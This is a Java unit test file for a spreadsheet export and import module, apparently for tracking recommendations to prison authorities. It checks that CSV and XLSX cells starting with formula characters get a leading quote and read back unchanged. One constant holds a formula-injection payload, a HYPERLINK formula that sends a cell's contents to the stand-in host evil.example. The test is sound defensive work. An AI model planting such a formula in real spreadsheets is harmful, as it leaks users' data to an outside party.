package org.opcat.followup.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * Text that a spreadsheet program would run as a formula is written neutralised (a leading single
 * quote, OWASP's advice) in CSV and XLSX alike, and the reader gives back exactly the text recorded.
 */
class FormulaSafetyTest {

    static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&B5,\"open\")";
    static final String OPENERS = "=+-@\t\r";

    /** Every string of up to four characters over the characters that matter, and some that do not. */
    static List<String> everyShortText() {
        char[] alphabet = {'\'', '=', '+', '-', '@', '\t', '\r', 'a', '1', ' '};
        List<String> texts = new ArrayList<>(List.of(""));
        List<String> last = List.of("");
        for (int length = 1; length <= 4; length++) {
            List<String> longer = new ArrayList<>();
            for (String s : last) {
                for (char c : alphabet) {
                    longer.add(s + c);
                }
            }
            texts.addAll(longer);
            last = longer;
        }
        return texts;
    }

    @Test
    void aNeutralisedTextNeverOpensAFormulaAndIsRestoredExactly() {
        List<String> texts = everyShortText();
        assertThat(texts).hasSize(1 + 10 + 100 + 1000 + 10000);
        for (String text : texts) {
            String cell = FormulaSafety.neutralise(text);
            assertThat(cell.isEmpty() || OPENERS.indexOf(cell.charAt(0)) < 0).as("cell for [%s]", text).isTrue();
            assertThat(FormulaSafety.restore(cell)).as("text of [%s]", cell).isEqualTo(text);
        }
    }

    @Test
    void onlyCellsThatNeedItAreChanged() {
        assertThat(FormulaSafety.neutralise(HYPERLINK)).isEqualTo("'" + HYPERLINK);
        assertThat(FormulaSafety.neutralise("-1 day")).isEqualTo("'-1 day");
        assertThat(FormulaSafety.neutralise("\tindented")).isEqualTo("'\tindented");
        assertThat(FormulaSafety.neutralise("'=A1")).as("a genuine quote before an opener").isEqualTo("''=A1");
        assertThat(FormulaSafety.neutralise("'quoted'")).isEqualTo("'quoted'");
        assertThat(FormulaSafety.neutralise("it's = fine")).isEqualTo("it's = fine");
        assertThat(FormulaSafety.neutralise("单独监禁")).isEqualTo("单独监禁");
        assertThat(FormulaSafety.neutralise(null)).isNull();
        assertThat(FormulaSafety.restore("'quoted'")).isEqualTo("'quoted'");
        assertThat(FormulaSafety.restore("'")).isEqualTo("'");
        assertThat(FormulaSafety.restore(null)).isNull();
    }

    private static Map<String, String> hostileRecommendation() {
        Map<String, String> row = new LinkedHashMap<>();
        row.put("reference", "@R-1");
        row.put("title", HYPERLINK);
        row.put("text", "'=A1 is how a form shows a formula as text");
        row.put("language", "en");
        row.put("issuedOn", "2026-01-01");
        row.put("sourceKind", "OTHER");
        row.put("documentReference", "-2026/V-1");
        row.put("addressees", "+Ministry;Prison Service");
        row.put("themes", "health-care");
        row.put("scope", "SYSTEMIC");
        row.put("priority", "NORMAL");
        row.put("standards", "\rRule 30");
        return row;
    }

    @Test
    void csvCellsStartSafelyAndReadBackAsRecorded() throws Exception {
        Map<String, String> row = hostileRecommendation();
        byte[] csv = SheetWriter.csv(Sheet.RECOMMENDATIONS, HeaderLanguage.EN, List.of(row));

        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(new StringReader(text),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            CSVRecord written = parser.getRecords().get(0);
            assertThat(written.get("title")).isEqualTo("'" + HYPERLINK);
            assertThat(written.get("reference")).isEqualTo("'@R-1");
            assertThat(written.get("text")).isEqualTo("''=A1 is how a form shows a formula as text");
            assertThat(written.get("documentReference")).isEqualTo("'-2026/V-1");
            assertThat(written.get("addressees")).isEqualTo("'+Ministry;Prison Service");
            assertThat(written.get("standards")).isEqualTo("'\rRule 30");
            assertThat(written.get("issuedOn")).isEqualTo("2026-01-01");
        }

        SheetRow read = SheetReader.read(csv, FileFormat.CSV, Sheet.RECOMMENDATIONS).get(Sheet.RECOMMENDATIONS).get(0);
        assertThat(read.cells()).containsAllEntriesOf(row);
    }

    @Test
    void xlsxStringCellsStartSafelyTooAndReadBackAsRecorded() throws Exception {
        Map<String, String> row = hostileRecommendation();
        byte[] xlsx = SheetWriter.xlsx(HeaderLanguage.ZH, Map.of(Sheet.RECOMMENDATIONS, List.of(row)));

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            Cell title = workbook.getSheet(Sheet.RECOMMENDATIONS.sheetName(HeaderLanguage.ZH)).getRow(1)
                    .getCell(Sheet.RECOMMENDATIONS.columns().indexOf(Sheet.RECOMMENDATIONS.column("title").orElseThrow()));
            assertThat(title.getCellType()).as("a string, never a formula").isEqualTo(CellType.STRING);
            assertThat(title.getStringCellValue()).as("safe when re-saved as CSV as well").isEqualTo("'" + HYPERLINK);
        }

        SheetRow read = SheetReader.read(xlsx, FileFormat.XLSX, null).get(Sheet.RECOMMENDATIONS).get(0);
        assertThat(read.cells()).containsAllEntriesOf(row);
    }
}
